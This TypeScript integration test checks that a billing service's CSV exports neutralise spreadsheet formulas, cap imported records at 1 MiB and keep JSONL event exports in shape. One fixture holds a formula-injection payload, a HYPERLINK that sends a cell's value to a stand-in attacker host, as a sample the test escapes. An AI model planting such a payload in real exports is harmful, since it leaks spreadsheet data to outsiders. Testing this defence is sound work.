import { waitFor, type ApiClient } from '@billstream/testing';
import { parse } from 'csv-parse/sync';
import { startIntegrationStack, type IntegrationStack } from '../../support/stack';
import { finishedTask, type Task } from './tasks-support';

/**
 * Issue #30's task file rules through the gateway, on real Postgres and Kafka: CSV exports
 * neutralise formulas (JSONL exports do not need to), imports skip a record over 1 MiB with an
 * error on its line and keep the good ones, and a JSONL export of events is one item of the
 * events query per line (which imports back as it is).
 */
const MiB = 1024 * 1024;

describe('task files: formulas, long lines and the shape of event lines (through the gateway)', () => {
  let stack: IntegrationStack;
  let api: ApiClient;

  beforeAll(async () => {
    stack = await startIntegrationStack({ extra: { env: { TASKS_POLL_MS: '100', TASKS_BATCH_ROWS: '50' } } });
    api = stack.api;
  }, 120_000);
  afterAll(async () => {
    await stack?.stop();
  }, 120_000);

  const finished = (id: string, client = api): Promise<Task> => finishedTask(client, id);

  async function importFile(entity: string, fileType: string, text: string, client = api): Promise<Task> {
    const res = await client.post(`/v1/tasks/imports?entity_type=${entity}&file_type=${fileType}`, text, { 'content-type': 'text/plain' });
    expect(res.status).toBe(202);
    return finished(res.body.id, client);
  }

  async function exportFile(body: Record<string, unknown>, client = api): Promise<string> {
    const res = await client.post('/v1/tasks', { task_type: 'EXPORT', ...body });
    expect(res.status).toBe(202);
    const task = await finished(res.body.id, client);
    expect(task.task_status).toBe('COMPLETED');
    const file = await client.get(`/v1/tasks/${task.id}/download`);
    expect(file.status).toBe(200);
    return file.text;
  }

  async function storedEvents(customer: string, client = api): Promise<Array<Record<string, unknown>>> {
    const res = await client.post('/v1/events/query', { external_customer_id: customer, page_size: 1000 });
    expect(res.status).toBe(200);
    return res.body.events;
  }

  const jsonl = (rows: unknown[]) => rows.map((r) => (typeof r === 'string' ? r : JSON.stringify(r))).join('\n') + '\n';

  describe('CSV exports neutralise formulas', () => {
    const hostile = {
      external_customer_id: 'formula-1',
      name: '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
      address_line1: '+1 234',
      address_line2: '-2+3',
      address_city: '@SUM(A1:A9)',
      address_state: '\tTab',
      metadata: { note: '=1+1' },
    };

    beforeAll(async () => {
      expect((await api.post('/v1/customers', hostile)).status).toBe(201);
    });

    it("writes a customer whose text starts with =, +, -, @ or a tab with a leading ' in the CSV, and as it is in JSONL", async () => {
      const csv = await exportFile({ entity_type: 'CUSTOMERS', file_type: 'CSV', filters: { external_customer_id: 'formula-1' } });
      const [row] = parse(csv, { columns: true }) as Array<Record<string, string>>;
      expect(row).toMatchObject({
        external_id: 'formula-1',
        name: `'${hostile.name}`,
        address_line1: "'+1 234",
        address_line2: "'-2+3",
        address_city: "'@SUM(A1:A9)",
        address_state: "'\tTab",
        metadata: '{"note":"=1+1"}',
      });
      // No cell of the file starts a formula.
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

      const lines = (await exportFile({ entity_type: 'CUSTOMERS', file_type: 'JSONL', filters: { external_customer_id: 'formula-1' } })).trimEnd().split('\n');
      const { external_customer_id: externalId, ...fields } = hostile;
      expect(JSON.parse(lines[0])).toMatchObject({ ...fields, external_id: externalId });
    });

    it('imports the CSV export back into another environment with the original values', async () => {
      const other = api.withKey(await stack.keyFor('tenant-a', 'formula-copy'));
      const csv = await exportFile({ entity_type: 'CUSTOMERS', file_type: 'CSV', filters: { external_customer_id: 'formula-1' } });
      expect(await importFile('CUSTOMERS', 'CSV', csv, other)).toMatchObject({ task_status: 'COMPLETED', successful_records: 1, failed_records: 0 });
      const copy = await other.get('/v1/customers/external/formula-1');
      expect(copy.body).toMatchObject({ name: hostile.name, address_line2: '-2+3', address_city: '@SUM(A1:A9)', metadata: { note: '=1+1' } });
    });
  });

  describe('imports cap one record at 1 MiB', () => {
    it('imports the good lines of a JSONL file and reports its 2 MiB line by its line number', async () => {
      const event = (i: number) => ({ event_id: `long-${i}`, event_name: 'api_call', external_customer_id: 'long-a', timestamp: `2026-06-01T00:00:0${i}Z` });
      const huge = JSON.stringify({ ...event(9), properties: { blob: 'x'.repeat(2 * MiB) } });
      const text = jsonl([event(1), event(2), huge, event(3), '', event(4)]);
      const task = await importFile('EVENTS', 'JSONL', text);
      expect(task).toMatchObject({ task_status: 'COMPLETED', processed_records: 5, successful_records: 4, failed_records: 1 });
      expect(task.errors).toEqual([{ line: 3, message: expect.stringMatching(/line is longer than 1048576 bytes/) }]);
      expect(task.error_summary).toMatch(/1 row\(s\)/);
      await waitFor(async () => (await storedEvents('long-a')).length === 4, { timeoutMs: 30_000, what: 'the 4 good events' });
      expect((await storedEvents('long-a')).map((e) => e.id).sort()).toEqual(['long-1', 'long-2', 'long-3', 'long-4']);
    });

    it('does the same for a CSV row of 2 MiB, quoted line breaks and all, keeping the line numbers after it', async () => {
      const csv = [
        'event_id,event_name,external_customer_id,timestamp,source',
        'lc-1,api_call,long-c,2026-06-02T00:00:01Z,web',
        `lc-2,api_call,long-c,2026-06-02T00:00:02Z,"${'y'.repeat(MiB)}\n${'z'.repeat(MiB)}"`,
        'lc-3,api_call,long-c,2026-06-02T00:00:03Z,web',
        'lc-4,,long-c,2026-06-02T00:00:04Z,web',
      ].join('\n');
      const task = await importFile('EVENTS', 'CSV', csv);
      expect(task).toMatchObject({ task_status: 'COMPLETED', processed_records: 4, successful_records: 2, failed_records: 2 });
      expect(task.errors.map((e) => e.line)).toEqual([3, 6]);
      expect(task.errors[0].message).toMatch(/row is longer than 1048576 bytes/);
      expect(task.errors[1].message).toMatch(/event_name/);
      await waitFor(async () => (await storedEvents('long-c')).length === 2, { timeoutMs: 30_000, what: 'the 2 good events' });
    });
  });

  describe('a JSONL export of events is one events-query item per line', () => {
    beforeAll(async () => {
      const events = [
        { event_id: 'shape-1', event_name: 'api_call', external_customer_id: 'shape-a', timestamp: '2026-07-01T00:00:00.123456Z', properties: { n: 1, tier: 'eu' }, source: 'crm' },
        { event_id: 'shape-2', event_name: 'storage', external_customer_id: 'shape-a', timestamp: '2026-07-01T00:00:01Z' },
      ];
      expect((await api.post('/v1/events/bulk', { events })).status).toBe(202);
      await waitFor(async () => (await storedEvents('shape-a')).length === 2, { timeoutMs: 30_000 });
    });

    it('answers each line as the events query answers the same event (id, not event_id); the CSV keeps its event_id column', async () => {
      const queried = Object.fromEntries((await storedEvents('shape-a')).map((e) => [e.id, e]));
      const text = await exportFile({ entity_type: 'EVENTS', file_type: 'JSONL', filters: { external_customer_id: 'shape-a' } });
      const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(lines.map((l) => l.id)).toEqual(['shape-1', 'shape-2']);
      for (const line of lines) {
        expect(line).toEqual(queried[line.id as string]);
        expect(Object.keys(line)).toEqual(Object.keys(queried[line.id as string]));
        expect(line).not.toHaveProperty('event_id');
      }

      const csv = await exportFile({ entity_type: 'EVENTS', file_type: 'CSV', filters: { external_customer_id: 'shape-a' } });
      const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
      expect(Object.keys(rows[0])).toEqual(['event_id', 'event_name', 'external_customer_id', 'customer_id', 'timestamp', 'source', 'properties']);
      expect(rows.map((r) => r.event_id)).toEqual(['shape-1', 'shape-2']);
      expect(rows[0]).toMatchObject({ timestamp: queried['shape-1'].timestamp, source: 'crm', properties: '{"n":1,"tier":"eu"}' });
    });

    it('imports the JSONL export back into another environment as it is, keeping the ids', async () => {
      const other = api.withKey(await stack.keyFor('tenant-a', 'shape-copy'));
      const text = await exportFile({ entity_type: 'EVENTS', file_type: 'JSONL', filters: { external_customer_id: 'shape-a' } });
      expect(await importFile('EVENTS', 'JSONL', text, other)).toMatchObject({ task_status: 'COMPLETED', successful_records: 2, failed_records: 0 });
      await waitFor(async () => (await storedEvents('shape-a', other)).length === 2, { timeoutMs: 30_000 });
      const copies = Object.fromEntries((await storedEvents('shape-a', other)).map((e) => [e.id, e]));
      const originals = Object.fromEntries((await storedEvents('shape-a')).map((e) => [e.id, e]));
      expect(copies).toEqual(originals);
    });
  });
});
